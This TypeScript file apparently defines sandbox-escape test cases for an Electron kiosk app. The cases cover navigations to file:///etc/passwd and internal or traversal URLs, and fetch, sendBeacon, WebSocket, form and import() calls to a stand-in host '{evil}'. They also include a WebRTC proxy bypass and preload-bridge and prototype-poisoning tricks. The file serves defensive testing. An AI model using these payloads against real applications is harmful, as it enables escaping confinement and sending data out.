/** Group D: everywhere a script in the page could try to go. `{evil}` is a server that nobody may reach. */
import type { Attempt } from './attempt.ts';

const script = (name: string, code: string, noticed: Attempt['noticed'] = null): Attempt => ({
  group: 'D',
  name,
  how: { is: 'script', script: code },
  noticed,
});

/** Chromium itself stops what is marked null, before anybody is asked. */
const addresses: readonly (readonly [string, Attempt['noticed']])[] = [
  ['{evil}/page', 'navigation'],
  ['https://evil.example/', 'navigation'],
  ['file:///etc/passwd', null],
  ['data:text/html,<h1>out</h1>', null],
  ['javascript:document.title="out"', null],
  ['view-source:app://kiosk/index.html', null],
  ['chrome://gpu/', null],
  ['chrome://crash/', null],
  ['chrome-extension://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/x.html', 'navigation'],
  ['devtools://devtools/bundled/inspector.html', null],
  ['about:blank', 'navigation'],
  ['ftp://evil.example/', 'navigation'],
  ['mailto:a@evil.example', 'navigation'],
  ['tel:112', 'navigation'],
  ['ms-settings:', 'navigation'],
  ['ms-word:ofe|u|https://evil.example/', 'navigation'],
  ['search-ms:query=x', 'navigation'],
  ['vscode://file/etc/passwd', 'navigation'],
  ['app://kiosk/', 'navigation'],
  ['app://kiosk/nothing-here.html', 'navigation'],
  ['app://kiosk/..%2f..%2fmain/index.cjs', 'navigation'],
  ['app://kiosk/%2e%2e/preload/kiosk.cjs', 'navigation'],
  ['app://other/index.html', 'navigation'],
  ['app://kiosk@evil.example/', 'navigation'],
];

const viaLocation = addresses.map(([address, noticed]) =>
  script(`location = ${address}`, `location.href = ${JSON.stringify(address)}`, noticed),
);
const viaLink = addresses
  .slice(0, 16)
  .map(([address, noticed]) =>
    script(`link to ${address}`, `make('a', { href: ${JSON.stringify(address)} }).click()`, noticed),
  );

/** Each loads from the outside world, or runs what nobody checked. */
const reaching: readonly (readonly [string, string])[] = [
  ['fetch', `return fetch('{evil}/fetch').then(() => 'escaped', () => 'refused')`],
  ['XMLHttpRequest', `const r = new XMLHttpRequest(); r.open('GET', '{evil}/xhr'); r.send()`],
  ['sendBeacon', `navigator.sendBeacon('{evil}/beacon', 'x')`],
  ['WebSocket', `new WebSocket('{evil}/'.replace('http', 'ws'))`],
  ['EventSource', `new EventSource('{evil}/events')`],
  ['picture', `make('img', { src: '{evil}/picture' })`],
  ['script file', `make('script', { src: '{evil}/script.js' })`],
  ['style sheet', `make('link', { rel: 'stylesheet', href: '{evil}/style.css' })`],
  ['prefetch', `make('link', { rel: 'prefetch', href: '{evil}/prefetch' })`],
  ['preconnect', `make('link', { rel: 'preconnect', href: '{evil}' })`],
  ['font', `new FontFace('x', 'url({evil}/font)').load().catch(() => {})`],
  ['video', `make('video', { src: '{evil}/video', autoplay: true })`],
  ['object', `make('object', { data: '{evil}/object' })`],
  ['embedded PDF', `make('embed', { src: '{evil}/x.pdf', type: 'application/pdf' })`],
  ['frame of https', `make('iframe', { src: '{evil}/frame' })`],
  ['frame of file', `make('iframe', { src: 'file:///etc/passwd' })`],
  ['import()', `return import('{evil}/module.js').then(() => 'escaped', () => 'refused')`],
  [
    'worker',
    `return new Promise((say) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => say('escaped'); w.onerror = () => say('refused') })`,
  ],
  [
    'service worker',
    `return navigator.serviceWorker.register('/sw.js').then(() => 'escaped', () => 'refused')`,
  ],
  ['eval', `try { return eval("'escaped'") } catch { return 'refused' }`],
  ['new Function', `try { return new Function("return 'escaped'")() } catch { return 'refused' }`],
  ['inline script', `make('script', {}).append("document.title = 'out'")`],
  ['inline handler', `make('div', {}).setAttribute('onclick', "document.title = 'out'")`],
  [
    'innerHTML',
    `try { make('div', {}).innerHTML = '<b>x</b>'; return 'escaped' } catch { return 'refused' }`,
  ],
  ['document.write', `try { document.write('<h1>out</h1>'); return 'escaped' } catch { return 'refused' }`],
  [
    'frame written by the page',
    `try { make('iframe', { srcdoc: '<h1>out</h1>' }); return 'escaped' } catch { return 'refused' }`,
  ],
  ['base address', `make('base', { href: '{evil}/' }); make('img', { src: 'base' })`],
  [
    'packets past the proxy',
    `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:{evilPort}' }] }); c.createDataChannel('x'); return c.createOffer().then((o) => c.setLocalDescription(o)).then(() => new Promise((r) => setTimeout(r, 300))).then(() => { const udp = c.localDescription.sdp.includes('candidate'); c.close(); return udp ? 'escaped' : 'refused' })`,
  ],
];

const windows: readonly Attempt[] = [
  script('window.open', `return window.open('{evil}/w') ? 'escaped' : 'refused'`),
  script(
    'window.open, small',
    `return window.open('about:blank', '_blank', 'width=100,height=100,popup') ? 'escaped' : 'refused'`,
  ),
  script(
    'window.open of our page',
    `return window.open('app://kiosk/index.html', 'x', 'noopener') ? 'escaped' : 'refused'`,
  ),
  script(
    'window.open with Node',
    `return window.open('about:blank', '_blank', 'nodeIntegration=yes,contextIsolation=no') ? 'escaped' : 'refused'`,
  ),
  script('link to a new window', `make('a', { href: '{evil}/t', target: '_blank' }).click()`),
  script('link to a named window', `make('a', { href: '{evil}/t', target: 'other' }).click()`),
  script('link to the top frame', `make('a', { href: '{evil}/t', target: '_top' }).click()`, 'navigation'),
  script('form, GET', `make('form', { action: '{evil}/get', method: 'GET' }).submit()`),
  script('form, POST', `make('form', { action: '{evil}/post', method: 'POST' }).submit()`),
  script('form to a new window', `make('form', { action: '{evil}/post', target: '_blank' }).submit()`),
  script(
    'refresh by a meta element',
    `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url={evil}/meta' }))`,
    'navigation',
  ),
  script('webview', `make('webview', { src: '{evil}/webview' })`),
  script('back past the beginning', `history.go(-5)`),
  script('back and forward', `history.back(); history.forward()`),
  script('an address of its own making', `history.pushState({}, '', '/elsewhere')`, 'navigation'),
  script('a fragment', `location.hash = 'elsewhere'`, 'navigation'),
  script('a query', `location.search = '?x'`, 'navigation'),
  script('reload', `location.reload()`),
  script('location.replace', `location.replace('{evil}/replace')`, 'navigation'),
  script('window.close', `window.close()`),
  script(
    'window.stop and moveTo',
    `window.stop(); window.moveTo(900, 700); window.resizeTo(50, 50); window.blur()`,
  ),
  script(
    'full screen',
    `return document.documentElement.requestFullscreen().then(() => 'escaped', () => 'refused')`,
  ),
  script('out of full screen', `return document.exitFullscreen().then(() => 'escaped', () => 'refused')`),
  script('pointer lock', `return document.body.requestPointerLock().then(() => 'escaped', () => 'refused')`),
  script(
    'a protocol of its own',
    `try { navigator.registerProtocolHandler('web+x', 'app://kiosk/%s') } catch {}`,
  ),
  script(
    'Node in the page',
    `return typeof process !== 'undefined' || typeof require !== 'undefined' || typeof module !== 'undefined' ? 'escaped' : 'refused'`,
  ),
  script(
    'ipcRenderer through the bridge',
    `return Object.values(daypass).some((power) => typeof power !== 'function') || 'ipcRenderer' in daypass ? 'escaped' : 'refused'`,
  ),
  script(
    'the bridge replaced',
    `try { daypass['station.read'] = () => 'mine' } catch {} try { window.daypass = {} } catch {} return window.daypass['station.read'](null).then((view) => (view === 'mine' ? 'escaped' : 'refused'))`,
  ),
  // The page's own code may run meanwhile, and calls what is its own.
  script(
    'prototypes poisoned for the preload',
    `const own = Array.prototype.push; Array.prototype.push = function () { if (!new Error().stack.includes('/assets/')) document.title = 'seen'; return own.apply(this, arguments) }; return daypass['station.read'](null).then(() => { Array.prototype.push = own; return 'refused' })`,
  ),
];

export const navigation: readonly Attempt[] = [
  ...viaLocation,
  ...viaLink,
  ...reaching.map(([name, code]) => script(name, code)),
  ...windows,
];
